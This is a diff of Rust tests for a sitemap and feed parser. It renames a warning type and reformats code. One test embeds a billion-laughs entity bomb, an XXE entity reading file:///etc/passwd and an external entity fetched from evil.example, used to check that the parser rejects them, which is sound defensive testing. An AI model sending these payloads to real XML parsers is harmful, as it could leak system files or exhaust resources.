@@ -4,7 +4,8 @@
 
 use proptest::prelude::*;
 use web::{
-    CanonicalForm, Lastmod, Listing, ListingKind, ListingLimits, ListingOddity, PageUrl, read_listing,
+    CanonicalForm, Lastmod, Listing, ListingKind, ListingLimits, ListingWarning, PageUrl,
+    read_listing,
 };
 
 const BASE: &str = "https://site.example/maps/a.xml";
@@ -37,7 +38,7 @@ fn lists(body: impl AsRef<[u8]>, pages: &[&str]) -> Listing {
 }
 
 /// These pages, and this odd.
-fn lists_oddly(body: impl AsRef<[u8]>, pages: &[&str], oddity: ListingOddity) {
+fn lists_oddly(body: impl AsRef<[u8]>, pages: &[&str], oddity: ListingWarning) {
     let listing = read(body.as_ref());
     let shown = String::from_utf8_lossy(body.as_ref());
     assert_eq!(urls(&listing.pages), pages, "{shown}");
@@ -45,7 +46,9 @@ fn lists_oddly(body: impl AsRef<[u8]>, pages: &[&str], oddity: ListingOddity) {
 }
 
 fn urlset(entries: &str) -> String {
-    format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<urlset xmlns=\"{SITEMAP}\">{entries}</urlset>")
+    format!(
+        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<urlset xmlns=\"{SITEMAP}\">{entries}</urlset>"
+    )
 }
 
 const A: &str = "https://site.example/a";
@@ -74,7 +77,10 @@ fn an_index_lists_sitemaps() {
     assert_eq!(listing.kind, ListingKind::SitemapIndex);
     assert_eq!(
         urls(&listing.further),
-        ["https://site.example/1.xml.gz", "https://site.example/2.txt"]
+        [
+            "https://site.example/1.xml.gz",
+            "https://site.example/2.txt"
+        ]
     );
     assert_eq!(listing.further[0].lastmod, "2004".parse().ok());
 }
@@ -141,16 +147,23 @@ fn what_a_document_is_its_root_tells() {
 
 #[test]
 fn a_text_sitemap_has_a_url_a_line() {
-    lists("https://site.example/a\r\n\r\nhttps://site.example/b", &[A, B]);
+    lists(
+        "https://site.example/a\r\n\r\nhttps://site.example/b",
+        &[A, B],
+    );
     lists(
         "\u{feff}https://site.example/a\nhttps://site.example/b\n",
         &[A, B],
     );
     let mut utf_16 = vec![0xff, 0xfe];
-    utf_16.extend(format!("{A}\n{B}\n").encode_utf16().flat_map(u16::to_le_bytes));
+    utf_16.extend(
+        format!("{A}\n{B}\n")
+            .encode_utf16()
+            .flat_map(u16::to_le_bytes),
+    );
     lists(utf_16, &[A, B]);
     let mostly = format!("{}a comment\n", format!("{A}\n").repeat(9));
-    lists_oddly(mostly, &[A; 9], ListingOddity::NoUrl);
+    lists_oddly(mostly, &[A; 9], ListingWarning::NoUrl);
 }
 
 #[test]
@@ -181,7 +194,7 @@ fn encodings_are_told_by_mark_declaration_or_bytes() {
     lists_oddly(
         b"<?xml version='1.0' encoding='utf-8'?><urlset><url><loc>/a</loc><x>\xff</x></url></urlset>",
         &[A],
-        ListingOddity::Undecodable,
+        ListingWarning::Undecodable,
     );
 }
 
@@ -214,14 +227,18 @@ fn addresses_are_read_as_sites_write_them() {
         "&unknown;/x",
         "/&nbsp;",
     ] {
-        let body = urlset(&format!("<url><loc>{loc}</loc></url><url><loc>/b</loc></url>"));
-        lists_oddly(body, &[B], ListingOddity::NoUrl);
+        let body = urlset(&format!(
+            "<url><loc>{loc}</loc></url><url><loc>/b</loc></url>"
+        ));
+        lists_oddly(body, &[B], ListingWarning::NoUrl);
     }
     let long = format!("/{}", "x".repeat(web::MAX_URL_BYTES));
     lists_oddly(
-        urlset(&format!("<url><loc>{long}</loc></url><url><loc>/b</loc></url>")),
+        urlset(&format!(
+            "<url><loc>{long}</loc></url><url><loc>/b</loc></url>"
+        )),
         &[B],
-        ListingOddity::NoUrl,
+        ListingWarning::NoUrl,
     );
     // Itself is no news.
     lists(
@@ -250,7 +267,10 @@ fn extensions_are_tolerated_and_translations_are_links() {
 #[test]
 fn namespaces_may_be_wrong_or_missing() {
     for (open, prefix) in [
-        ("<urlset xmlns='http://www.google.com/schemas/sitemap/0.84'>", ""),
+        (
+            "<urlset xmlns='http://www.google.com/schemas/sitemap/0.84'>",
+            "",
+        ),
         ("<urlset>", ""),
         (
             "<sm:urlset xmlns:sm='http://www.sitemaps.org/schemas/sitemap/0.9'>",
@@ -259,7 +279,9 @@ fn namespaces_may_be_wrong_or_missing() {
         ("<sm:urlset>", "sm:"),
     ] {
         lists(
-            format!("{open}<{prefix}url><{prefix}loc>/a</{prefix}loc></{prefix}url></{prefix}urlset>"),
+            format!(
+                "{open}<{prefix}url><{prefix}loc>/a</{prefix}loc></{prefix}url></{prefix}urlset>"
+            ),
             &[A],
         );
     }
@@ -276,7 +298,7 @@ fn what_was_read_before_a_break_counts() {
         let expected = [A, B];
         let count = usize::from(cut >= a_ends) + usize::from(cut >= b_ends);
         assert_eq!(pages, expected[..count], "cut at {cut}: {}", &body[..cut]);
-        assert_eq!(listing.oddities, [ListingOddity::Broken], "cut at {cut}");
+        assert_eq!(listing.oddities, [ListingWarning::Broken], "cut at {cut}");
     }
 }
 
@@ -286,35 +308,42 @@ fn markup_may_be_broken() {
         urlset("<url><loc>/a</url><url><loc>/b</loc></url>"),
         urlset("<url><loc>/a</loc><url><loc>/b</loc></url>"),
         urlset("<url><loc>/a</loc><lastmod></url><url><loc>/b</loc></lastmod></url></x>"),
-        "<urlset><url><loc>/a</loc></url></urlset><urlset><url><loc>/b</loc></url></urlset>".to_owned(),
+        "<urlset><url><loc>/a</loc></url></urlset><urlset><url><loc>/b</loc></url></urlset>"
+            .to_owned(),
         "<urlset><url><loc>/a</loc></url></urlset></urlset><url><loc>/b</loc></url>".to_owned(),
-        "<urlset a=1 a=2 b><url x><loc y=>/a</loc></url><url><loc>/b</loc></url></urlset>".to_owned(),
+        "<urlset a=1 a=2 b><url x><loc y=>/a</loc></url><url><loc>/b</loc></url></urlset>"
+            .to_owned(),
     ] {
         assert_eq!(urls(&read(&body).pages), [A, B], "{body}");
     }
     lists_oddly(
         urlset("<url><loc>/a</loc></url><url><loc>/b</loc></url><url <"),
         &[A, B],
-        ListingOddity::Broken,
+        ListingWarning::Broken,
     );
     lists_oddly(
         urlset("<url><loc>/a</loc><lastmod>gestern</lastmod></url><url><loc>/b</loc></url>"),
         &[A, B],
-        ListingOddity::NoDate,
+        ListingWarning::NoDate,
     );
 }
 
 #[test]
 fn a_declared_entity_is_neither_expanded_nor_fetched() {
     let laughs: String = (1..=9)
-        .map(|n| format!("<!ENTITY lol{n} \"{}\">", format!("&lol{};", n - 1).repeat(10)))
+        .map(|n| {
+            format!(
+                "<!ENTITY lol{n} \"{}\">",
+                format!("&lol{};", n - 1).repeat(10)
+            )
+        })
         .collect();
     let body = format!(
         "<?xml version=\"1.0\"?><!DOCTYPE urlset [<!ENTITY lol0 \"/lol\">{laughs}<!ENTITY x SYSTEM \"file:///etc/passwd\">\
          <!ENTITY % p SYSTEM \"http://evil.example/p\"> %p;]>\
          <urlset><url><loc>/&lol9;</loc></url><url><loc>&x;</loc></url><url><loc>/a</loc></url></urlset>"
     );
-    lists_oddly(body, &[A], ListingOddity::NoUrl);
+    lists_oddly(body, &[A], ListingWarning::NoUrl);
 }
 
 #[test]
@@ -338,7 +367,7 @@ fn more_entries_than_the_cap_are_left() {
         assert_eq!((at.pages.len(), at.oddities.len()), (3, 0), "{}", body(3));
         let past = read_bytes(body(4).as_bytes(), &limits).unwrap();
         assert_eq!(past.pages.len(), 3, "{}", body(4));
-        assert_eq!(past.oddities, [ListingOddity::TooMany], "{}", body(4));
+        assert_eq!(past.oddities, [ListingWarning::TooMany], "{}", body(4));
     }
 }
 
@@ -349,12 +378,13 @@ fn tags_within_tags_without_end_are_left() {
         urlset("<url><loc>/a</loc></url>"),
         "<a xml:base='/x/'>".repeat(100_000)
     );
-    lists_oddly(deep, &[A], ListingOddity::Broken);
+    lists_oddly(deep, &[A], ListingWarning::Broken);
 }
 
 #[test]
 fn rss_of_every_version_lists_its_items() {
-    let item = |link: &str| format!("<item><title>t</title>{link}<description>d</description></item>");
+    let item =
+        |link: &str| format!("<item><title>t</title>{link}<description>d</description></item>");
     let two = item("<link>https://site.example/a</link>") + &item("<link> /b </link>");
     for version in ["0.91", "0.92", "0.93", "0.94", "2.0", "2.0.1", ""] {
         let body = format!(
@@ -376,10 +406,19 @@ fn rss_of_every_version_lists_its_items() {
 #[test]
 fn of_an_item_the_links_count_and_a_guid_where_there_is_none() {
     for (item, page) in [
-        ("<link>/a</link><guid>https://site.example/g</guid>", Some(A)),
+        (
+            "<link>/a</link><guid>https://site.example/g</guid>",
+            Some(A),
+        ),
         ("<guid>https://site.example/a</guid>", Some(A)),
-        ("<guid isPermaLink='true'>https://site.example/a</guid>", Some(A)),
-        ("<guid isPermaLink='false'>https://site.example/a</guid>", None),
+        (
+            "<guid isPermaLink='true'>https://site.example/a</guid>",
+            Some(A),
+        ),
+        (
+            "<guid isPermaLink='false'>https://site.example/a</guid>",
+            None,
+        ),
         ("<guid>tag:site.example,2024:1</guid>", None),
         ("<guid>/a</guid>", None),
         ("<atom:link rel='alternate' href='/a'/>", Some(A)),
@@ -427,7 +466,7 @@ fn a_json_feed_lists_its_items() {
         "{\"version\":\"jsonfeed.org\",\"items\":[{\"url\":\"/a\"},{\"url\":\"/b\"},{\"ur",
         "{\"version\":\"jsonfeed.org\",\"items\":[{\"url\":\"/a\"},{\"url\":\"/b\"},{\"url\":5}]}",
     ] {
-        lists_oddly(broken, &[A, B], ListingOddity::Broken);
+        lists_oddly(broken, &[A, B], ListingWarning::Broken);
     }
 }
 
@@ -458,7 +497,9 @@ fn written(entries: &[(String, Option<String>)], manner: u32) -> Vec<u8> {
         } else {
             format!("{loc}{gap}{lastmod}{image}")
         };
-        text.push_str(&format!("<{prefix}url>{gap}{fields}{gap}</{prefix}url>{gap}"));
+        text.push_str(&format!(
+            "<{prefix}url>{gap}{fields}{gap}</{prefix}url>{gap}"
+        ));
     }
     text.push_str(&format!("</{prefix}urlset>"));
     if way(6, 1) {
@@ -472,14 +513,13 @@ fn entry() -> impl Strategy<Value = (String, Option<String>)> {
     let url =
         "[a-z]{1,8}(/[a-zA-Z0-9._~-]{1,6}){1,3}(\\?[a-z]{1,3}=[0-9]{1,3}(&[a-z]{1,3}=[a-z]{1,3}){0,2})?"
             .prop_map(|rest| format!("https://{rest}"));
-    let date =
-        (1970_u32..2100, 1_u32..=12, 1_u32..=28, 0_u32..3).prop_map(|(year, month, day, precision)| {
-            match precision {
-                0 => format!("{year:04}"),
-                1 => format!("{year:04}-{month:02}"),
-                _ => format!("{year:04}-{month:02}-{day:02}"),
-            }
-        });
+    let date = (1970_u32..2100, 1_u32..=12, 1_u32..=28, 0_u32..3).prop_map(
+        |(year, month, day, precision)| match precision {
+            0 => format!("{year:04}"),
+            1 => format!("{year:04}-{month:02}"),
+            _ => format!("{year:04}-{month:02}-{day:02}"),
+        },
+    );
     (url, proptest::option::of(date))
 }
 
